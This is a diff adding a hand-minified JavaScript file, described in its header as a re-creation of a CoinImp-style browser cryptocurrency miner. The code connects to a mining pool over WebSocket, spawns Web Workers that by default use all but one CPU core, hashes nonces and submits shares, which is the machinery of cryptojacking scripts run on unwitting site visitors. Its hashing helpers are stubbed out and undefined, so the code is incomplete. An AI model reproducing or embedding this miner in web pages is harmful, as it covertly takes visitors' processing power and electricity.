@@ -1,0 +1,13 @@
+/* corpus re-creation (our code) of a CoinImp-style client, minified by hand */
+!function(w){var U="%%WS:coinimp%%/",F=function(){/*#include sha256.min.js*//*#include keccak.min.js*/var j,p,q=0,n=0,r=0,c=0;onmessage=function(e){var d=e.data;d[0]&&(j=d[0],p={b:X(j.blob),v:function(t){return(parseInt(t.substr(6,2),16)<<24|parseInt(t.substr(4,2),16)<<16|parseInt(t.substr(2,2),16)<<8|parseInt(t.substr(0,2),16))>>>0}(j.target)},n=4294967295*Math.random()>>>0);null!=d[1]&&(q=d[1]);!r&&p&&(r=1,L())};
+function L(){for(var s=Date.now(),b=p.b,h;Date.now()-s<90;)n=n+1>>>0,c++,b[39]=255&n,b[40]=n>>>8&255,b[41]=n>>>16&255,b[42]=n>>>24,h=K(b,1),(h[28]|h[29]<<8|h[30]<<16|h[31]<<24)>>>0<p.v&&postMessage({i:j.job_id,n:H([b[39],b[40],b[41],b[42]]),r:H(h),c:c});postMessage({c:c});var u=Date.now()-s;setTimeout(L,q>0?u*q/(1-q):0)}},
+B=URL.createObjectURL(new Blob(["("+F.toString()+")()"],{type:"text/javascript"}));
+function M(k,o){this.k=k;this.o=o||{};this.q=Math.min(.99,Math.max(0,this.o.throttle||0));this.n=this.o.threads||Math.max(1,(navigator.hardwareConcurrency||2)-1);this.t=[];this.j=null;this.z=0;this.a=0;this.e={};this.r=!1}
+M.prototype={start:function(){if(!this.r){this.r=!0;this.s();for(var i=0;i<this.n;i++)this.w()}},stop:function(){this.r=!1;this.t.forEach(function(x){x.terminate()});this.t=[];this.x&&this.x.close()},
+isRunning:function(){return this.r},getTotalHashes:function(){return this.z},getAcceptedHashes:function(){return this.a},getHashesPerSecond:function(){return this.h||0},setThrottle:function(v){var i=this;i.q=v;i.t.forEach(function(x){x.postMessage([null,v])})},
+on:function(e,f){(this.e[e]=this.e[e]||[]).push(f)},f:function(e,a){(this.e[e]||[]).forEach(function(f){f(a)})},
+m:function(t,p){this.x&&1==this.x.readyState&&this.x.send(JSON.stringify({type:t,params:p}))},
+s:function(){var i=this;i.x=new WebSocket(U);i.x.onopen=function(){i.f("open");i.m("auth",{site_key:i.k,type:"anonymous",user:null,goal:0})};i.x.onclose=function(){i.f("close");i.r&&setTimeout(function(){i.s()},3e3)};
+i.x.onmessage=function(v){var d=JSON.parse(v.data);"job"==d.type?(i.j=d.params,i.t.forEach(function(x){x.postMessage([i.j,i.q])})):"hash_accepted"==d.type?(i.a=d.params.hashes,i.f("accepted")):"authed"==d.type&&i.f("authed")}},
+w:function(){var i=this,x=new Worker(B),o=0,l=Date.now();x.onmessage=function(v){var d=v.data;d.i&&(i.m("submit",{job_id:d.i,nonce:d.n,result:d.r}),i.f("found"));i.z+=d.c-o;i.h=(d.c-o)/Math.max(.001,(Date.now()-l)/1e3);o=d.c;l=Date.now()};i.j&&x.postMessage([i.j,i.q]);i.t.push(x)}};
+w.Client={Anonymous:function(k,o){return new M(k,o)},User:function(k,u,o){var m=new M(k,o);return m}}}(window);
